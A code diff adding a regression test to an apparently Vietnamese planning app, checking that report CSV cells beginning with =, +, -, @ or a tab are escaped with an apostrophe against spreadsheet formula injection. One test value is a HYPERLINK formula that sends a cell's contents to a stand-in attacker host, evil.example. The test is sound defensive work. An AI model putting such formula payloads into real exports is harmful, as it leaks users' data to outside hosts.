@@ -503,6 +503,31 @@ def test_the_csv_keeps_vietnamese_text_and_quotes_what_needs_it(api, admin, coor
     assert list(got) == CSV_COLUMNS["overdue"]
 
 
+def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(api, coordinator):
+    """Defect: report CSV cells were written raw, so a task's title or an update's note starting
+    with =, +, -, @, TAB or CR reached a spreadsheet as a formula. Such a text cell now starts
+    with an apostrophe (OWASP's advice), and numbers stay numbers."""
+    period = vn_half(today())[0]
+    plan, _ = make_plan(coordinator)
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    t = create_task(coordinator, plan["id"], section="V.1", title="=1+2 tổ chức tập huấn",
+                    due_date=days_ago(1))
+    r = post_update(coordinator, t["id"], {"note": link, "percent_done": 5})
+    assert r.status_code == 201, r.text
+    for start in ("+", "-", "@", "\t"):
+        r = post_update(coordinator, t["id"], {"note": f"{start}SUM(A1:A9)"})
+        assert r.status_code == 201, r.text
+    [overdue] = report_csv(api, period, "overdue", plan=plan["id"], unit="89")
+    got = cells(overdue, "overdue")
+    assert got["title"] == "'=1+2 tổ chức tập huấn"
+    assert (got["percent_done"], got["id"]) == ("5", str(t["id"])), "numbers stay numbers"
+    notes = [cells(row, "updates")["note"]
+             for row in report_csv(api, period, "updates", plan=plan["id"], unit="89")]
+    assert notes == ["'" + link] + [f"'{start}SUM(A1:A9)" for start in ("+", "-", "@", "\t")]
+    as_json = report(api, period, plan=plan["id"], unit="89")
+    assert [u["note"] for u in as_json["updates"]][0] == link, "the JSON keeps the text as it is"
+
+
 # --- who reads reports --------------------------------------------------------------------------
 
 @pytest.mark.parametrize("user", sorted(DEMO_USERS))
